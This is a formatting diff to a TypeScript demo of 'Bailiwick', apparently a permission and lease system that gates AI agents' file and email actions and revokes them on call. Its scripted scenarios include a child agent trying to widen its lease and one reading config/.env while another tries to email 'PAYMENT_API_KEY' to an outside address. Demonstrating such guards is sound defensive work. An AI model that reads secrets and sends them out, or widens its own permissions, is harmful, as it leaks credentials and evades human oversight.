@@ -24,7 +24,8 @@ interface Agent {
   readonly runId: string;
 }
 
-const PURPOSE = 'Read the documentation and the sources of this repository and write a summary of its structure to docs/SUMMARY.md';
+const PURPOSE =
+  'Read the documentation and the sources of this repository and write a summary of its structure to docs/SUMMARY.md';
 const FILES = [{ type: 'file', match: '**' }];
 
 /**
@@ -35,10 +36,21 @@ export async function playStory(credentials: Credentials, say: Say): Promise<boo
   const as = (role: string) => new BailiwickClient({ url: credentials.url, key: credentials.keys[role] as string });
   const workspace = makeWorkspace();
   const tools = await GuardedTools.start(workspace.dir);
-  const cast: Cast = { orchestrator: as('orchestrator'), approver: as('approver'), responder: as('responder'), analyst: as('analyst'), say, tools };
+  const cast: Cast = {
+    orchestrator: as('orchestrator'),
+    approver: as('approver'),
+    responder: as('responder'),
+    analyst: as('analyst'),
+    say,
+    tools,
+  };
   try {
     say(bold('Bailiwick: a maintenance task over a copy of this repository'));
-    say(dim(`workspace ${workspace.dir}, behind a real MCP filesystem server (${(await tools.toolNames()).length} tools)`));
+    say(
+      dim(
+        `workspace ${workspace.dir}, behind a real MCP filesystem server (${(await tools.toolNames()).length} tools)`,
+      ),
+    );
     const root = await openWithApproval(cast);
     const written = await work(cast, root);
     await widen(cast, root);
@@ -62,7 +74,11 @@ async function openWithApproval(cast: Cast): Promise<Agent> {
   const { say } = cast;
   chapter(cast, 1, 'The orchestrator asks for a lease; a person grants it');
   const asked = await cast.orchestrator.openRun({
-    agent: { class: 'repo-maintenance-agent', instance: 'demo-1', posture: { model: 'demo', modelVersion: '2026-06', environment: 'demo' } },
+    agent: {
+      class: 'repo-maintenance-agent',
+      instance: 'demo-1',
+      posture: { model: 'demo', modelVersion: '2026-06', environment: 'demo' },
+    },
     requestedBy: 'user:owner@example.com',
     purpose: PURPOSE,
     requireApproval: true,
@@ -102,7 +118,10 @@ async function hire(cast: Cast, parent: Agent, agentClass: string, task: string,
 /** @returns the id of the action that wrote the summary */
 async function work(cast: Cast, root: Agent): Promise<string> {
   chapter(cast, 2, 'It hands narrower leases to a reader, a writer and a reviewer; they work');
-  const reader = await hire(cast, root, 'reader', 'read the documentation', { actions: { allow: ['file.read', 'file.list'] }, budget: { calls: 40, writes: 0 } });
+  const reader = await hire(cast, root, 'reader', 'read the documentation', {
+    actions: { allow: ['file.read', 'file.list'] },
+    budget: { calls: 40, writes: 0 },
+  });
   const writer = await hire(cast, root, 'writer', 'write docs/SUMMARY.md', {
     actions: { allow: ['file.write'] },
     resources: [{ type: 'file', match: 'docs/**' }],
@@ -113,16 +132,44 @@ async function work(cast: Cast, root: Agent): Promise<string> {
     resources: [{ type: 'file', match: 'docs/**' }],
     budget: { calls: 10 },
   });
-  const listing = tell(cast, reader, 'list_directory .', await cast.tools.call(reader.client, reader.grantId, 'list_directory', '.'));
-  const readme = tell(cast, reader, 'read package.json', await cast.tools.call(reader.client, reader.grantId, 'read_text_file', 'package.json'));
-  const entries = (listing ?? '').split('\n').filter((line) => line.startsWith('[DIR]')).map((line) => line.slice(6));
+  const listing = tell(
+    cast,
+    reader,
+    'list_directory .',
+    await cast.tools.call(reader.client, reader.grantId, 'list_directory', '.'),
+  );
+  const readme = tell(
+    cast,
+    reader,
+    'read package.json',
+    await cast.tools.call(reader.client, reader.grantId, 'read_text_file', 'package.json'),
+  );
+  const entries = (listing ?? '')
+    .split('\n')
+    .filter((line) => line.startsWith('[DIR]'))
+    .map((line) => line.slice(6));
   const name = /"name": "([^"]+)"/.exec(readme ?? '')?.[1] ?? 'this repository';
-  tell(cast, reader, 'write docs/x.md', await cast.tools.call(reader.client, reader.grantId, 'write_file', 'docs/x.md', { content: 'no' }));
+  tell(
+    cast,
+    reader,
+    'write docs/x.md',
+    await cast.tools.call(reader.client, reader.grantId, 'write_file', 'docs/x.md', { content: 'no' }),
+  );
   const content = `# ${name}\n\nTop-level folders:\n\n${entries.map((entry) => `- ${entry}`).join('\n')}\n`;
   const written = await cast.tools.call(writer.client, writer.grantId, 'write_file', 'docs/SUMMARY.md', { content });
   tell(cast, writer, 'write docs/SUMMARY.md', written);
-  tell(cast, writer, 'write package.json', await cast.tools.call(writer.client, writer.grantId, 'write_file', 'package.json', { content: '{}' }));
-  tell(cast, reviewer, 'read docs/SUMMARY.md', await cast.tools.call(reviewer.client, reviewer.grantId, 'read_text_file', 'docs/SUMMARY.md'));
+  tell(
+    cast,
+    writer,
+    'write package.json',
+    await cast.tools.call(writer.client, writer.grantId, 'write_file', 'package.json', { content: '{}' }),
+  );
+  tell(
+    cast,
+    reviewer,
+    'read docs/SUMMARY.md',
+    await cast.tools.call(reviewer.client, reviewer.grantId, 'read_text_file', 'docs/SUMMARY.md'),
+  );
   for (const done of [reader, writer, reviewer]) await done.client.complete(done.runId);
   cast.say(dim('   the three report their work done; their leases end with it'));
   return written.decision.actionId;
@@ -139,7 +186,8 @@ function tell(cast: Cast, agent: Agent, what: string, result: CallResult): strin
 }
 
 function tellDecision({ say }: Cast, agent: Agent, what: string, decision: ActionAnswer): void {
-  const word = decision.decision === 'permit' ? green('permit') : decision.decision === 'deny' ? red('deny  ') : yellow('ask   ');
+  const word =
+    decision.decision === 'permit' ? green('permit') : decision.decision === 'deny' ? red('deny  ') : yellow('ask   ');
   say(`   ${word} ${agent.name}: ${what}`);
   const reasons = reasonText(decision.reasons, '          ');
   if (reasons) say(reasons);
@@ -147,7 +195,10 @@ function tellDecision({ say }: Cast, agent: Agent, what: string, decision: Actio
 
 async function widen(cast: Cast, root: Agent): Promise<void> {
   chapter(cast, 3, 'A child tries to widen its lease');
-  const greedy = await hire(cast, root, 'planner', 'plan the next step', { budget: { calls: 10 }, delegation: { depth: 1, children: 2, classes: ['helper'] } });
+  const greedy = await hire(cast, root, 'planner', 'plan the next step', {
+    budget: { calls: 10 },
+    delegation: { depth: 1, children: 2, classes: ['helper'] },
+  });
   try {
     await greedy.client.delegate(greedy.grantId, {
       agent: { class: 'helper' },
@@ -159,7 +210,11 @@ async function widen(cast: Cast, root: Agent): Promise<void> {
     if (!(error instanceof ProblemError) || error.code !== 'GRANT_WIDENS_PARENT') throw error;
     cast.say(`   ${red('refused')} planner → helper: ${error.code}`);
     for (const reason of error.reasons) {
-      cast.say(dim(`          ${plain(reason.path ?? reason.rule)}: has ${short(reason.limit)}, asked ${short(reason.actual)}`));
+      cast.say(
+        dim(
+          `          ${plain(reason.path ?? reason.rule)}: has ${short(reason.limit)}, asked ${short(reason.actual)}`,
+        ),
+      );
     }
   }
 }
@@ -168,9 +223,20 @@ const short = (value: unknown): string => plain(JSON.stringify(value) ?? '').sli
 
 async function exfiltrate(cast: Cast, root: Agent): Promise<void> {
   chapter(cast, 4, 'One child reads a secret; another tries to send it out');
-  const scout = await hire(cast, root, 'scout', 'look through the configuration', { actions: { allow: ['file.read'] }, risk: { ceiling: 'medium' } });
-  const mailer = await hire(cast, root, 'mailer', 'send a note that the summary is ready', { actions: { allow: ['email.send'] }, budget: { external: 1 } });
-  tell(cast, scout, 'read config/.env', await cast.tools.call(scout.client, scout.grantId, 'read_text_file', 'config/.env'));
+  const scout = await hire(cast, root, 'scout', 'look through the configuration', {
+    actions: { allow: ['file.read'] },
+    risk: { ceiling: 'medium' },
+  });
+  const mailer = await hire(cast, root, 'mailer', 'send a note that the summary is ready', {
+    actions: { allow: ['email.send'] },
+    budget: { external: 1 },
+  });
+  tell(
+    cast,
+    scout,
+    'read config/.env',
+    await cast.tools.call(scout.client, scout.grantId, 'read_text_file', 'config/.env'),
+  );
   const decision = await mailer.client.act({
     grantId: mailer.grantId,
     action: { verb: 'email.send', args: { to: 'someone@elsewhere.example', body: 'PAYMENT_API_KEY=…' } },
@@ -181,7 +247,10 @@ async function exfiltrate(cast: Cast, root: Agent): Promise<void> {
 
 async function overspend(cast: Cast, root: Agent): Promise<void> {
   chapter(cast, 5, 'One runs out of budget');
-  const counter = await hire(cast, root, 'counter', 'count the lines of the documents', { actions: { allow: ['file.read'] }, budget: { calls: 3 } });
+  const counter = await hire(cast, root, 'counter', 'count the lines of the documents', {
+    actions: { allow: ['file.read'] },
+    budget: { calls: 3 },
+  });
   for (const path of ['package.json', 'tsconfig.json', 'nest-cli.json', 'jest.config.cjs']) {
     tell(cast, counter, `read ${path}`, await cast.tools.call(counter.client, counter.grantId, 'read_text_file', path));
   }
@@ -216,18 +285,34 @@ async function sourceFiles(cast: Cast, root: Agent): Promise<string[]> {
   const found = await cast.tools.call(root.client, root.grantId, 'search_files', '.', { pattern: '**/*.ts' });
   if (!found.done) throw new Error('the orchestrator should be able to search');
   const lines = found.text.split('\n').filter((line) => line.startsWith(cast.tools.directory));
-  return lines.map((line) => line.slice(cast.tools.directory.length + 1)).filter((_, i) => i % 3 === 0).slice(0, 100);
+  return lines
+    .map((line) => line.slice(cast.tools.directory.length + 1))
+    .filter((_, i) => i % 3 === 0)
+    .slice(0, 100);
 }
 
 async function onCall(cast: Cast, root: Agent): Promise<void> {
   chapter(cast, 7, 'On call stops every wanderer and every mailer that is left');
   for (const agentClass of ['wanderer', 'mailer']) {
     const preview = await cast.responder.previewRevocation({ agentClass });
-    cast.say(`   blast radius of class ${agentClass}: ${preview.counts.grants} grants, ${preview.counts.runs} runs, ${preview.counts.inFlight} in flight`);
-    const revoked = await cast.responder.revokeAll({ selector: { agentClass }, reason: 'left its purpose', digest: preview.digest });
-    cast.say(`   ${red('revoked')} ${revoked.revocationId} ${dim(`one event per log: ${JSON.stringify(revoked.positions)}`)}`);
+    cast.say(
+      `   blast radius of class ${agentClass}: ${preview.counts.grants} grants, ${preview.counts.runs} runs, ${preview.counts.inFlight} in flight`,
+    );
+    const revoked = await cast.responder.revokeAll({
+      selector: { agentClass },
+      reason: 'left its purpose',
+      digest: preview.digest,
+    });
+    cast.say(
+      `   ${red('revoked')} ${revoked.revocationId} ${dim(`one event per log: ${JSON.stringify(revoked.positions)}`)}`,
+    );
   }
-  cast.say(treeText(await cast.analyst.tree((await root.client.run(root.runId)).treeId)).split('\n').map((line) => `   ${line}`).join('\n'));
+  cast.say(
+    treeText(await cast.analyst.tree((await root.client.run(root.runId)).treeId))
+      .split('\n')
+      .map((line) => `   ${line}`)
+      .join('\n'),
+  );
 }
 
 async function account(cast: Cast, root: Agent, actionId: string, credentials: Credentials): Promise<boolean> {
